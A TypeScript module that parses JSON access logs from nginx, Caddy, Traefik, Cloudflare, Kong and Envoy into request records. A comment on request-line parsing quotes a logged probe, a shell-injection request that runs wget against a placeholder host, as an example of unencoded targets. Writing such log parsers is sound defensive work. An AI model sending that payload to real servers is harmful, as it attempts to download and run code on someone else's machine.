// JSON access logs of the reverse proxies in front of a gateway: nginx (`log_format … escape=json`
// with the variables' own names as keys, or the operator's), Caddy (`http.log.access`), Traefik
// (its field names), Cloudflare Logpush, Kong and Envoy (Istio).
import { type EventFields, readTimeField, type TimeField } from './gateway-event.js';
import { clientAddress, httpStatus, pathOnly, presentValue } from './http-fields.js';
import { isJsonObject, type JsonObject, textOf } from './json-line.js';
import type { ParseContext } from './parser.js';

/** What one access log record says about its request (before 401/403 makes it an auth failure). */
export interface AccessRecord {
  time?: number | undefined;
  /** A time field is there but holds no readable time. */
  unreadableTime?: boolean;
  /** Absent for a record of the proxy's own that is not a request. */
  fields?: EventFields;
}

export function firstText(obj: JsonObject, keys: readonly string[]): string | undefined {
  for (const key of keys) {
    const value = presentValue(textOf(obj[key]));
    if (value !== undefined) return value;
  }
  return undefined;
}

/** The first present time field of `keys`, read. */
export function readTime(obj: JsonObject, keys: readonly string[], ctx: ParseContext): TimeField {
  for (const key of keys) {
    const field = readTimeField(obj[key], ctx);
    if (field.time !== undefined || field.unreadable) return field;
  }
  return { unreadable: false };
}

export function timed(field: TimeField, record: Omit<AccessRecord, 'time' | 'unreadableTime'>): AccessRecord {
  return { time: field.time, ...(field.unreadable ? { unreadableTime: true } : {}), ...record };
}

// A request line as the client sent it: the target runs to ` HTTP/x` and may hold spaces (a client
// that does not encode them: ALB classifies such a request `SpaceInUri`, nginx and Apache log it as
// it came, `"GET /shell?cd+/tmp;wget+ a.example/x HTTP/1.1"`). The lazy target and the fixed
// protocol suffix match in one pass (no nested repetition), so a long line cannot backtrack long.
const REQUEST_LINE = /^([A-Z][A-Z0-9_-]*) (\S.*?)(?: HTTP\/[\d.]+)?$/;

/** `"POST /path?x HTTP/1.1"` → method and target; undefined for junk (TLS bytes sent to port 80). */
export function splitRequestLine(request: string): { method: string; target: string } | undefined {
  const m = REQUEST_LINE.exec(request.trim());
  return m ? { method: m[1]!, target: m[2]! } : undefined;
}

/** A header Caddy or cloudflared logs as an array of values (`"Cf-Connecting-Ip":["140.115.59.10"]`). */
export function headerValue(headers: unknown, name: string): string | undefined {
  if (!isJsonObject(headers)) return undefined;
  const value = headers[name];
  return presentValue(textOf(Array.isArray(value) ? value[0] : value));
}

// Caddy: `ts` is epoch seconds as a float; the request is a nested object whose headers are
// arrays; `client_ip` is the client after trusted proxies, `remote_ip` the peer. Without
// `trusted_proxies` Caddy leaves `client_ip` the peer and logs X-Forwarded-For among the headers
// (Caddy behind cloudflared or a local proxy): that list, believed only from a trusted peer.
function readCaddy(obj: JsonObject, request: JsonObject, ctx: ParseContext): AccessRecord {
  const headers = isJsonObject(request['headers']) ? request['headers'] : {};
  const agent = headers['User-Agent'];
  const peer = clientAddress(firstText(request, ['remote_ip', 'remote_addr']));
  const client = clientAddress(firstText(request, ['client_ip']));
  const forwarded = client === undefined || client === peer ? headerValue(headers, 'X-Forwarded-For') : undefined;
  return timed(readTime(obj, ['ts'], ctx), {
    fields: {
      source: forwarded !== undefined ? peer : (client ?? peer),
      forwardedFor: forwarded,
      method: firstText(request, ['method']),
      path: pathOnly(firstText(request, ['uri'])),
      status: httpStatus(obj['status']),
      userAgent: presentValue(textOf(Array.isArray(agent) ? agent[0] : agent)),
    },
  });
}

// Traefik: `RequestPath` keeps the query; `ClientAddr` is the peer with its port, and `ClientHost`
// its address, or the request's whole X-Forwarded-For header when it has one (Traefik's access log
// middleware sets it so): a forwarded list, believed only from a trusted proxy. Request headers are
// written as `request_<Name>` fields. `StartLocal` is the request's start with its offset (the
// same instant as `StartUTC`); `time` is when the line was written, in whole seconds.
function readTraefik(obj: JsonObject, ctx: ParseContext): AccessRecord {
  const peer = clientAddress(firstText(obj, ['ClientAddr']));
  const host = firstText(obj, ['ClientHost']);
  const forwarded = host !== undefined && peer !== undefined && host !== peer ? host : undefined;
  return timed(readTime(obj, ['StartUTC', 'StartLocal', 'time'], ctx), {
    fields: {
      source: forwarded !== undefined ? peer : (peer ?? clientAddress(host)),
      forwardedFor: forwarded,
      method: firstText(obj, ['RequestMethod']),
      path: pathOnly(firstText(obj, ['RequestPath'])),
      status: httpStatus(obj['DownstreamStatus'] ?? obj['OriginStatus']),
      userAgent: firstText(obj, ['request_User-Agent']),
    },
  });
}

const NGINX_TIME = ['time_iso8601', 'time_local', 'log_time', '@timestamp', 'msec', 'time', 'timestamp'];
const NGINX_STATUS = ['status', 'http_status', 'status_code', 'http_code'];
const NGINX_FORWARDED = ['http_x_forwarded_for', 'x_forwarded_for', 'proxy_add_x_forwarded_for'];

/** The first present field of `keys`, raw (a status may be a number or a string). */
function firstValue(obj: JsonObject, keys: readonly string[]): unknown {
  for (const key of keys) if (obj[key] !== undefined && obj[key] !== null && obj[key] !== '') return obj[key];
  return undefined;
}

// nginx: keys are whatever the log_format names them, by convention the variable names, but
// operators name them as they like (`http_status`, `client`, `lan_ip`, `uri` + `args`).
function readNginx(obj: JsonObject, ctx: ParseContext): AccessRecord {
  const request = firstText(obj, ['request']);
  const parts = request !== undefined ? splitRequestLine(request) : undefined;
  return timed(readTime(obj, NGINX_TIME, ctx), {
    fields: {
      source: clientAddress(firstText(obj, ['remote_addr', 'client', 'client_ip', 'lan_ip', 'remote_ip'])),
      forwardedFor: firstText(obj, NGINX_FORWARDED),
      method: parts?.method ?? firstText(obj, ['request_method', 'method']),
      path: pathOnly(parts?.target ?? firstText(obj, ['request_uri', 'uri'])),
      status: httpStatus(firstValue(obj, NGINX_STATUS)),
      userAgent: firstText(obj, ['http_user_agent', 'user_agent', 'agent']),
    },
  });
}

/** `EdgeStartTimestamp` may be RFC 3339, or an epoch in s, ms or ns (the Logpush `timestamp_format`). */
function cloudflareTime(value: unknown): unknown {
  return typeof value === 'number' && value > 1e17 ? value / 1e6 : value;
}

// Cloudflare Logpush (http_requests dataset): the client is `ClientIP`; the URI keeps the query.
function readCloudflare(obj: JsonObject, ctx: ParseContext): AccessRecord {
  const field = readTimeField(cloudflareTime(obj['EdgeStartTimestamp']), ctx);
  return timed(field, {
    fields: {
      source: clientAddress(firstText(obj, ['ClientIP'])),
      method: firstText(obj, ['ClientRequestMethod']),
      path: pathOnly(firstText(obj, ['ClientRequestURI', 'ClientRequestPath'])),
      status: httpStatus(obj['EdgeResponseStatus'] ?? obj['OriginResponseStatus']),
      userAgent: firstText(obj, ['ClientRequestUserAgent']),
    },
  });
}

// Kong (file-log, http-log plugins): `request` and `response` objects, `started_at` in epoch ms,
// request headers lowercased (`user-agent`, and `authorization` when not removed).
function readKong(obj: JsonObject, request: JsonObject, ctx: ParseContext): AccessRecord {
  const response = isJsonObject(obj['response']) ? obj['response'] : {};
  const headers = isJsonObject(request['headers']) ? request['headers'] : {};
  return timed(readTime(obj, ['started_at'], ctx), {
    fields: {
      source: clientAddress(firstText(obj, ['client_ip'])),
      method: firstText(request, ['method']),
      path: pathOnly(firstText(request, ['uri']) ?? urlPath(firstText(request, ['url']))),
      status: httpStatus(response['status']),
      userAgent: firstText(headers, ['user-agent']),
    },
  });
}

// Envoy's JSON access log (Istio's `accessLogEncoding: JSON`, Envoy Gateway's default): keys as the
// operator names them, by convention Istio's (`start_time`, `method`, `path` with its query,
// `response_code`, `downstream_remote_address` = the peer with its port, `x_forwarded_for`,
// `user_agent`); Envoy Gateway writes `x-envoy-origin-path`, `user-agent`, `x-forwarded-for`.
// Values are strings (`"418"`) or numbers, `-` or null when empty.
function readEnvoyJson(obj: JsonObject, ctx: ParseContext): AccessRecord {
  return timed(readTime(obj, ['start_time'], ctx), {
    fields: {
      source: clientAddress(firstText(obj, ['downstream_remote_address'])),
      forwardedFor: firstText(obj, ['x_forwarded_for', 'x-forwarded-for']),
      method: firstText(obj, ['method', ':method']),
      path: pathOnly(firstText(obj, ['path', 'x-envoy-origin-path', ':path'])),
      status: httpStatus(obj['response_code']),
      userAgent: firstText(obj, ['user_agent', 'user-agent']),
    },
  });
}

/** `https://gw.example:443/api/v1/agents?x=1` → `/api/v1/agents?x=1` (load balancers log the whole URL). */
export function urlPath(target: string | undefined): string | undefined {
  if (target === undefined) return undefined;
  const m = /^[a-z][a-z0-9+.-]*:\/\/[^/?#]*/i.exec(target);
  if (m === null) return target;
  const rest = target.slice(m[0].length);
  return rest === '' ? '/' : rest;
}

/**
 * Caddy's process lines carry no `logger` (`{"level":"info","ts":1761019822.3,"msg":"maxprocs: …"}`,
 * `using config from file`, `shutting down apps`): a Caddy container log starts with them. Read
 * only inside an input already detected as an access log (never for detection: any zap logger
 * writes this shape), they date the input's first lines instead of counting as unparsed.
 */
export function readProcessLine(obj: JsonObject, ctx: ParseContext): AccessRecord | undefined {
  if (typeof obj['ts'] !== 'number' || typeof obj['msg'] !== 'string' || typeof obj['level'] !== 'string') return undefined;
  return timed(readTime(obj, ['ts'], ctx), {});
}

/** The request of a JSON access log line, or undefined when the object is none of these logs. */
export function readAccessJson(obj: JsonObject, ctx: ParseContext): AccessRecord | undefined {
  const has = (key: string): boolean => Object.hasOwn(obj, key);
  const request = obj['request'];
  const logger = obj['logger'];
  if (has('ClientRequestURI') || has('EdgeResponseStatus') || (has('ClientIP') && has('ClientRequestMethod'))) return readCloudflare(obj, ctx);
  // Kong has `request.method` like Caddy: told apart by its `response` object and `started_at`.
  if (isJsonObject(request) && isJsonObject(obj['response']) && (has('started_at') || has('client_ip'))) return readKong(obj, request, ctx);
  if (isJsonObject(request) && ((typeof logger === 'string' && logger.startsWith('http.log.access')) || Object.hasOwn(request, 'method'))) {
    return readCaddy(obj, request, ctx);
  }
  // Caddy logs its other loggers (`http.handlers.reverse_proxy`, `tls`, …) to the same output.
  if (typeof logger === 'string' && has('ts')) return timed(readTime(obj, ['ts'], ctx), {});
  if (has('start_time') && (has('response_code') || has('downstream_remote_address'))) return readEnvoyJson(obj, ctx);
  if (has('RequestMethod') || has('DownstreamStatus') || has('ClientHost') || has('RequestPath')) return readTraefik(obj, ctx);
  if (typeof request === 'string' || has('request_method') || has('request_uri')) return readNginx(obj, ctx);
  if (has('uri') && NGINX_STATUS.some(has)) return readNginx(obj, ctx);
  return undefined;
}
